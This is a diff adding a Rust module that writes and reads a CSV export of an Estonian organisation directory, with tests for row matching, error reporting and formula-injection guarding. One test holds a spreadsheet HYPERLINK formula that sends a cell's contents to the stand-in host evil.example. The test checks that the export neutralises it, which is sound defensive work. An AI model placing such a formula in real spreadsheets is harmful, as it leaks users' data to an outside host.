@@ -1,0 +1,637 @@
+//! The directory as a CSV file. Written: every entry with every field, UTF-8 with a BOM (so
+//! Excel reads it as UTF-8), comma or semicolon separated, multilingual fields as columns of
+//! their own and lists inside one cell, no cell a spreadsheet would run. Read: a file from a
+//! spreadsheet, each row as an [`EntryForm`] read by the entry's [`Rules`], into a plan (how
+//! many rows are new, updated and unchanged, and every problem with its line, column and
+//! reason), which the store writes, when it has no problem, in one transaction.
+
+use crate::entries::entry::{Entry, FIELDS, Refused, Rules, term_of};
+use crate::entries::{EntryForm, ImportProblem};
+use crate::error::Problem;
+use crate::shared::text::{guard_cell, unguard_cell};
+use std::collections::{HashMap, HashSet};
+
+/// The columns of a file, in order: the slug, then the entry's fields.
+pub fn columns() -> impl Iterator<Item = &'static str> {
+    std::iter::once("slug").chain(FIELDS)
+}
+
+/// Columns a file must have; the others may be left out (and are then emptied).
+const REQUIRED: [&str; 4] = ["name", "kind", "municipality", "sectors"];
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Separator {
+    Comma,
+    /// What Estonian Excel writes and expects.
+    Semicolon,
+}
+
+impl Separator {
+    fn byte(self) -> u8 {
+        match self {
+            Separator::Comma => b',',
+            Separator::Semicolon => b';',
+        }
+    }
+
+    /// The separator a file uses: the one its header line has more of.
+    fn of(text: &str) -> Separator {
+        let header = text.lines().next().unwrap_or_default();
+        if header.matches(';').count() > header.matches(',').count() {
+            Separator::Semicolon
+        } else {
+            Separator::Comma
+        }
+    }
+}
+
+/// `entries` as a file, cells that start like a formula quoted (`shared::text::guard_cell`).
+pub fn write<'a>(
+    entries: impl IntoIterator<Item = &'a Entry>,
+    separator: Separator,
+) -> Result<Vec<u8>, csv::Error> {
+    let mut out = csv::WriterBuilder::new()
+        .delimiter(separator.byte())
+        .terminator(csv::Terminator::CRLF)
+        .from_writer("\u{feff}".as_bytes().to_vec());
+    out.write_record(columns())?;
+    for entry in entries {
+        let cells = std::iter::once(entry.slug.clone()).chain(entry.fields());
+        out.write_record(cells.map(|cell| guard_cell(&cell)))?;
+    }
+    out.into_inner().map_err(|e| e.into_error().into())
+}
+
+/// What an import would do. Rows are matched to entries by registry code, else by the slug of
+/// a file exported here, else by name in the same municipality.
+#[derive(Clone, Debug, Default)]
+pub struct ImportPlan {
+    /// New entries, each with the slug its row asked for (maybe none or taken).
+    pub new: Vec<Entry>,
+    /// The stored entry's id with the file's version.
+    pub updated: Vec<(i64, Entry)>,
+    pub unchanged: usize,
+    pub problems: Vec<ImportProblem>,
+}
+
+/// Reads `file` against the `stored` entries (with their ids) and works out what importing it
+/// would do.
+pub fn plan(file: &[u8], rules: &Rules, stored: &[(i64, Entry)]) -> ImportPlan {
+    let mut plan = ImportPlan::default();
+    let whole_line = |line: u64, problem: Problem, value: String| ImportProblem {
+        line,
+        column: String::new(),
+        problem,
+        value,
+    };
+    let file = file.strip_prefix("\u{feff}".as_bytes()).unwrap_or(file);
+    let text = match std::str::from_utf8(file) {
+        Ok(text) => text,
+        Err(error) => {
+            let before = &file[..error.valid_up_to()];
+            let line = before.iter().filter(|&&b| b == b'\n').count() as u64 + 1;
+            plan.problems
+                .push(whole_line(line, Problem::NotUtf8, String::new()));
+            return plan;
+        }
+    };
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(Separator::of(text).byte())
+        .flexible(true)
+        .from_reader(text.as_bytes());
+    let header: Vec<String> = match reader.headers() {
+        Ok(header) => header.iter().map(|h| h.trim().to_lowercase()).collect(),
+        Err(error) => {
+            plan.problems
+                .push(whole_line(1, Problem::NotACsvFile, error.to_string()));
+            return plan;
+        }
+    };
+    for column in &header {
+        if !columns().any(|known| known == column) {
+            plan.problems.push(ImportProblem {
+                line: 1,
+                column: column.clone(),
+                problem: Problem::UnknownColumn,
+                value: column.clone(),
+            });
+        }
+    }
+    for column in REQUIRED {
+        if !header.iter().any(|h| h == column) {
+            plan.problems.push(ImportProblem {
+                line: 1,
+                column: column.to_owned(),
+                problem: Problem::MissingColumn,
+                value: String::new(),
+            });
+        }
+    }
+    if !plan.problems.is_empty() {
+        return plan;
+    }
+
+    let by_code: HashMap<&str, &(i64, Entry)> = stored
+        .iter()
+        .filter_map(|stored| Some((stored.1.registry_code.as_deref()?, stored)))
+        .collect();
+    let by_slug: HashMap<&str, &(i64, Entry)> = stored
+        .iter()
+        .map(|stored| (stored.1.slug.as_str(), stored))
+        .collect();
+    let by_name: HashMap<(String, &str), &(i64, Entry)> = stored
+        .iter()
+        .map(|stored| {
+            (
+                (stored.1.name.to_lowercase(), stored.1.municipality.as_str()),
+                stored,
+            )
+        })
+        .collect();
+    let mut seen: HashSet<String> = HashSet::new();
+    let mut lines = Lines::new(text);
+    for record in reader.records() {
+        let record = match record {
+            Ok(record) => record,
+            Err(error) => {
+                let line = error.position().map_or(0, |p| lines.of(p.byte()));
+                plan.problems
+                    .push(whole_line(line, Problem::NotACsvFile, error.to_string()));
+                continue;
+            }
+        };
+        if record.iter().all(|cell| cell.trim().is_empty()) {
+            continue;
+        }
+        let line = record.position().map_or(0, |p| lines.of(p.byte()));
+        if record.len() > header.len() {
+            let cells = record.len().to_string();
+            plan.problems
+                .push(whole_line(line, Problem::TooManyCells, cells));
+            continue;
+        }
+        let row = Row {
+            line,
+            cells: header
+                .iter()
+                .map(String::as_str)
+                .zip(record.iter().map(|cell| unguard_cell(cell).trim()))
+                .collect(),
+        };
+        let (form, file_only) = row.form(rules);
+        let (mut entry, refused) = rules.read(&form);
+        entry.slug = row.cell("slug").to_owned();
+        let mut problems: Vec<ImportProblem> = refused
+            .into_iter()
+            .map(|refused| problem_of(line, refused))
+            .chain(file_only)
+            .collect();
+        // What identifies the row, in the order rows are matched to entries: the registry
+        // code, the slug of a file exported here, else the name in its municipality.
+        let name_key = (entry.name.to_lowercase(), entry.municipality.clone());
+        let identity = match (&entry.registry_code, entry.slug.as_str()) {
+            (Some(code), _) => format!("code {code}"),
+            (None, "") => format!("name {} in {}", name_key.0, name_key.1),
+            (None, slug) => format!("slug {slug}"),
+        };
+        if !seen.insert(identity) {
+            problems.push(whole_line(
+                line,
+                Problem::DuplicateInFile,
+                entry.name.clone(),
+            ));
+        }
+        if !problems.is_empty() {
+            plan.problems.extend(problems);
+            continue;
+        }
+        let matched = entry
+            .registry_code
+            .as_deref()
+            .and_then(|code| by_code.get(code))
+            .or_else(|| by_slug.get(entry.slug.as_str()))
+            .or_else(|| by_name.get(&(name_key.0, entry.municipality.as_str())));
+        match matched {
+            Some((id, stored)) => {
+                entry.slug = stored.slug.clone();
+                if entry.fields() == stored.fields() {
+                    plan.unchanged += 1;
+                } else {
+                    plan.updated.push((*id, entry));
+                }
+            }
+            None => plan.new.push(entry),
+        }
+    }
+    plan
+}
+
+/// A refused field as a problem of the file: its column is the field's, but for the other
+/// languages, which the file keeps with the rest in `languages`.
+fn problem_of(line: u64, refused: Refused) -> ImportProblem {
+    let column = match refused.field {
+        "other_languages" => "languages",
+        field => field,
+    };
+    ImportProblem {
+        line,
+        column: column.to_owned(),
+        problem: refused.problem,
+        value: refused.value,
+    }
+}
+
+/// One row's cells by column, and the line it starts on.
+struct Row<'a> {
+    line: u64,
+    cells: HashMap<&'a str, &'a str>,
+}
+
+impl Row<'_> {
+    fn cell(&self, column: &str) -> &str {
+        self.cells.get(column).copied().unwrap_or_default()
+    }
+
+    /// The row as the form it stands for, with the problems only a file has (a yes or no that
+    /// is neither).
+    fn form(&self, rules: &Rules) -> (EntryForm, Vec<ImportProblem>) {
+        let mut problems = Vec::new();
+        let mut yes_no =
+            |column: &str, default: bool| match self.cell(column).to_lowercase().as_str() {
+                "" => default,
+                "yes" | "y" | "true" | "1" | "x" | "jah" | "да" => true,
+                "no" | "n" | "false" | "0" | "ei" | "нет" => false,
+                _ => {
+                    problems.push(ImportProblem {
+                        line: self.line,
+                        column: column.to_owned(),
+                        problem: Problem::NotYesOrNo,
+                        value: self.cell(column).to_owned(),
+                    });
+                    default
+                }
+            };
+        let (member, published) = (yes_no("member", false), yes_no("published", true));
+        let sectors = sector_items(self.cell("sectors"), rules);
+        let languages: Vec<String> = self
+            .cell("languages")
+            .split([',', ';', '\n'])
+            .map(|code| code.trim().to_lowercase())
+            .filter(|code| !code.is_empty())
+            .collect();
+        let speaks = |code: &str| languages.iter().any(|l| l == code);
+        let text = |column: &str| self.cell(column).to_owned();
+        let form = EntryForm {
+            name: text("name"),
+            kind: text("kind"),
+            municipality: text("municipality"),
+            sectors,
+            speaks_et: speaks("et"),
+            speaks_ru: speaks("ru"),
+            speaks_en: speaks("en"),
+            other_languages: languages
+                .iter()
+                .filter(|l| !["et", "ru", "en"].contains(&l.as_str()))
+                .cloned()
+                .collect::<Vec<_>>()
+                .join(", "),
+            description_et: text("description_et"),
+            description_ru: text("description_ru"),
+            description_en: text("description_en"),
+            services_et: text("services_et"),
+            services_ru: text("services_ru"),
+            services_en: text("services_en"),
+            website: text("website"),
+            email: text("email"),
+            phone: text("phone"),
+            registry_code: text("registry_code"),
+            founded_year: text("founded_year"),
+            member,
+            published,
+            links: text("links"),
+        };
+        (form, problems)
+    }
+}
+
+/// The sectors of a cell: separated by `;`, lines or commas, which some labels also contain
+/// ("Film, video, tele ja raadio"), so that commas separate only where the parts on either side
+/// are not one label.
+fn sector_items(cell: &str, rules: &Rules) -> Vec<String> {
+    /// The most commas a label is looked for across.
+    const LONGEST: usize = 4;
+    let mut items = Vec::new();
+    for part in cell.split([';', '\n']) {
+        let pieces: Vec<&str> = part.split(',').collect();
+        let mut start = 0;
+        while start < pieces.len() {
+            let end = (start + 1..=pieces.len().min(start + LONGEST))
+                .rev()
+                .find(|end| {
+                    let joined = pieces[start..*end].join(",");
+                    term_of(&rules.vocabulary.sectors, &joined).is_some()
+                })
+                .unwrap_or(start + 1);
+            let item = pieces[start..end].join(",").trim().to_owned();
+            if !item.is_empty() {
+                items.push(item);
+            }
+            start = end;
+        }
+    }
+    items
+}
+
+/// Lines (from 1) of the records of a text, asked for in order. The reader's own line count
+/// lags with Windows line ends, and its offset may point at the end of the line before.
+struct Lines<'a> {
+    text: &'a str,
+    counted_to: usize,
+    newlines: u64,
+}
+
+impl<'a> Lines<'a> {
+    fn new(text: &'a str) -> Self {
+        Self {
+            text,
+            counted_to: 0,
+            newlines: 0,
+        }
+    }
+
+    /// The line of the record the reader says starts at `byte` (no earlier than the last).
+    fn of(&mut self, byte: u64) -> u64 {
+        let text = self.text;
+        let start = usize::try_from(byte).unwrap_or(text.len()).min(text.len());
+        let first = text[start..]
+            .find(|c| c != '\r' && c != '\n')
+            .map_or(text.len(), |offset| start + offset);
+        if first > self.counted_to {
+            self.newlines += text.as_bytes()[self.counted_to..first]
+                .iter()
+                .filter(|&&b| b == b'\n')
+                .count() as u64;
+            self.counted_to = first;
+        }
+        self.newlines + 1
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::i18n::Lang;
+    use crate::platform::db::test_pool;
+    use crate::platform::vocabulary::Vocabulary;
+    use crate::shared::Localized;
+
+    const HEADER: &str =
+        "name;kind;municipality;sectors;languages;description_et;registry_code;phone;member";
+
+    /// The real vocabulary, as the migrations fill it.
+    async fn vocabulary() -> Vocabulary {
+        Vocabulary::load(&test_pool().await).await.unwrap()
+    }
+
+    fn stored() -> Vec<(i64, Entry)> {
+        let studio = Entry {
+            slug: "helistuudio".into(),
+            name: "Jõhvi Helistuudio".into(),
+            kind: "company".into(),
+            municipality: "johvi".into(),
+            sectors: vec!["design".into()],
+            languages: vec!["et".into()],
+            description: Localized::new(Some("Salvestusstuudio".into()), None, None),
+            registry_code: Some("10060701".into()),
+            links: vec!["https://instagram.example/helistuudio".into()],
+            is_published: true,
+            ..Entry::default()
+        };
+        let potter = Entry {
+            slug: "toila-keraamika".into(),
+            name: "Toila Keraamika".into(),
+            kind: "company".into(),
+            municipality: "toila".into(),
+            sectors: vec!["design".into(), "heritage-crafts".into()],
+            languages: vec!["et".into(), "ru".into()],
+            description: Localized::new(
+                None,
+                Some("Керамика, \"ручная\"; работа\nи курсы".into()),
+                None,
+            ),
+            is_published: true,
+            ..Entry::default()
+        };
+        vec![(1, studio), (2, potter)]
+    }
+
+    fn planned(file: &str, vocabulary: &Vocabulary, stored: &[(i64, Entry)]) -> ImportPlan {
+        let rules = Rules {
+            vocabulary,
+            this_year: 2026,
+        };
+        plan(file.as_bytes(), &rules, stored)
+    }
+
+    fn problems(plan: &ImportPlan) -> Vec<(u64, &str, Problem, &str)> {
+        plan.problems
+            .iter()
+            .map(|p| (p.line, p.column.as_str(), p.problem, p.value.as_str()))
+            .collect()
+    }
+
+    fn counts(plan: &ImportPlan) -> (usize, usize, usize) {
+        (plan.new.len(), plan.updated.len(), plan.unchanged)
+    }
+
+    #[tokio::test]
+    async fn a_written_file_read_again_changes_nothing_with_either_separator() {
+        let vocabulary = vocabulary().await;
+        let stored = stored();
+        for separator in [Separator::Semicolon, Separator::Comma] {
+            let file = write(stored.iter().map(|(_, e)| e), separator).unwrap();
+            assert!(file.starts_with("\u{feff}".as_bytes()), "a BOM for Excel");
+            let text = String::from_utf8(file).unwrap();
+            assert!(text.contains("\r\n"), "Windows line ends");
+            let found = planned(&text, &vocabulary, &stored);
+            assert_eq!(problems(&found), vec![]);
+            assert_eq!(counts(&found), (0, 0, 2));
+        }
+    }
+
+    #[tokio::test]
+    async fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_unchanged() {
+        let vocabulary = vocabulary().await;
+        let mut stored = stored();
+        stored.push((
+            3,
+            Entry {
+                slug: "valem".into(),
+                name: r#"=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.into(),
+                description: Localized::new(
+                    Some("'=already a quote".into()),
+                    Some("-1+1".into()),
+                    Some("@SUM(1)".into()),
+                ),
+                phone: Some("+372 5555 4321".into()),
+                ..stored[0].1.clone()
+            },
+        ));
+        stored[2].1.registry_code = None;
+        let file = write(stored.iter().map(|(_, e)| e), Separator::Semicolon).unwrap();
+        let text = String::from_utf8(file).unwrap();
+        let mut reader = ::csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .map(|r| r.unwrap())
+            .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
+            .unwrap()
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell Excel would run: {cell}"
+            );
+        }
+        assert!(
+            cells.contains(&r#"'=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.to_owned())
+        );
+        assert!(cells.contains(&"'+372 5555 4321".to_owned()));
+        assert!(cells.contains(&"''=already a quote".to_owned()));
+        let found = planned(&text, &vocabulary, &stored);
+        assert_eq!(problems(&found), vec![]);
+        assert_eq!(counts(&found), (0, 0, 3), "the round trip changes nothing");
+    }
+
+    #[tokio::test]
+    async fn a_messy_file_is_read_and_a_bad_registry_code_is_told_by_line_and_column() {
+        let vocabulary = vocabulary().await;
+        let mut file = format!("\u{feff}{HEADER}\r\n");
+        // Line 2: a quoted description over two lines, with the separator and quotes inside, and
+        // a sector label with a comma in it.
+        file.push_str(
+            "\"Narva Valguskoda OÜ\";company;Narva;Film, video, tele ja raadio, design;et, RU;\"Valgus; \"\"video\"\"\r\nja droonid\";10421629;+372 5550 0100;jah\r\n",
+        );
+        file.push_str("\r\n"); // line 4: empty
+        for n in 5..=60 {
+            let code = if n == 57 { "12345670" } else { "" };
+            file.push_str(&format!(
+                "Stuudio {n};freelancer;Sillamäe linn;Disain;et;Kirjeldus {n};{code};;ei\r\n"
+            ));
+        }
+        let found = planned(&file, &vocabulary, &stored());
+        assert_eq!(
+            problems(&found),
+            vec![(57, "registry_code", Problem::NotARegistryCode, "12345670")]
+        );
+        assert_eq!(found.new.len(), 56);
+        let narva = found
+            .new
+            .iter()
+            .find(|e| e.name == "Narva Valguskoda OÜ")
+            .unwrap();
+        // Windows line ends inside the cell are stored as plain line breaks.
+        assert_eq!(
+            narva.description.get(Lang::Et),
+            Some("Valgus; \"video\"\nja droonid")
+        );
+        assert_eq!(narva.municipality, "narva");
+        assert_eq!(narva.sectors, ["film", "design"], "in the sectors' order");
+        assert_eq!(narva.languages, ["et", "ru"]);
+        assert!(narva.is_member && narva.is_published);
+        let stuudio = found.new.iter().find(|e| e.name == "Stuudio 5").unwrap();
+        assert_eq!(
+            (stuudio.municipality.as_str(), stuudio.sectors.as_slice()),
+            ("sillamae", ["design".to_owned()].as_slice())
+        );
+    }
+
+    #[tokio::test]
+    async fn unknown_values_and_columns_are_reported_not_dropped() {
+        let vocabulary = vocabulary().await;
+        let file = format!(
+            "{HEADER}\nA;company;Atlantis;design, knitting;et, x y;Tekst;;;\nB;dragon;narva;;et;;;12;maybe\n"
+        );
+        let found = planned(&file, &vocabulary, &stored());
+        assert_eq!(
+            problems(&found),
+            vec![
+                (2, "municipality", Problem::UnknownMunicipality, "Atlantis"),
+                (2, "sectors", Problem::UnknownSector, "knitting"),
+                (2, "languages", Problem::UnknownLanguage, "x y"),
+                (3, "kind", Problem::UnknownChoice, "dragon"),
+                (3, "sectors", Problem::Required, ""),
+                (3, "description_et", Problem::DescriptionInOneLanguage, ""),
+                (3, "phone", Problem::NotAPhone, "12"),
+                (3, "member", Problem::NotYesOrNo, "maybe"),
+            ]
+        );
+        let languages = vec!["uk"; 31].join(", ");
+        let long = planned(
+            &format!("{HEADER}\nA;company;narva;design;{languages};Tekst;;;\n"),
+            &vocabulary,
+            &[],
+        );
+        assert_eq!(
+            problems(&long),
+            vec![(2, "languages", Problem::TooLong, "")]
+        );
+        let bad_header = planned("name,kind,colour\nA,company,red\n", &vocabulary, &[]);
+        assert_eq!(
+            problems(&bad_header),
+            vec![
+                (1, "colour", Problem::UnknownColumn, "colour"),
+                (1, "municipality", Problem::MissingColumn, ""),
+                (1, "sectors", Problem::MissingColumn, ""),
+            ]
+        );
+        let rules = Rules {
+            vocabulary: &vocabulary,
+            this_year: 2026,
+        };
+        let latin1 = plan(b"name;kind\nT\xf5nu;company\n", &rules, &[]);
+        assert_eq!(problems(&latin1), vec![(2, "", Problem::NotUtf8, "")]);
+    }
+
+    #[tokio::test]
+    async fn rows_match_by_registry_code_else_slug_else_name_and_municipality() {
+        let vocabulary = vocabulary().await;
+        let file = format!(
+            "{HEADER}\n\
+             Helistuudio OÜ;company;johvi;design;et;Salvestusstuudio;10060701;;\n\
+             toila keraamika;company;toila;heritage-crafts, design;ru, et;Uus kirjeldus;;;\n\
+             Uus Tegija;sole-trader;narva;design;et;Tekst;;;\n"
+        );
+        let found = planned(&file, &vocabulary, &stored());
+        assert_eq!(problems(&found), vec![]);
+        assert_eq!(counts(&found), (1, 2, 0));
+        let updated: Vec<(i64, &str, &str)> = found
+            .updated
+            .iter()
+            .map(|(id, e)| (*id, e.slug.as_str(), e.name.as_str()))
+            .collect();
+        assert_eq!(
+            updated,
+            [
+                (1, "helistuudio", "Helistuudio OÜ"),
+                (2, "toila-keraamika", "toila keraamika")
+            ]
+        );
+        let by_slug = planned(
+            "slug,name,kind,municipality,sectors,description_et\n\
+             helistuudio,Jõhvi Helistuudio,company,narva,design,Teine tekst\n\
+             helistuudio,Kaks,company,narva,design,Teine tekst\n",
+            &vocabulary,
+            &stored(),
+        );
+        assert_eq!(
+            problems(&by_slug),
+            vec![(3, "", Problem::DuplicateInFile, "Kaks")]
+        );
+        assert_eq!(by_slug.updated[0].0, 1, "matched by its slug");
+    }
+}
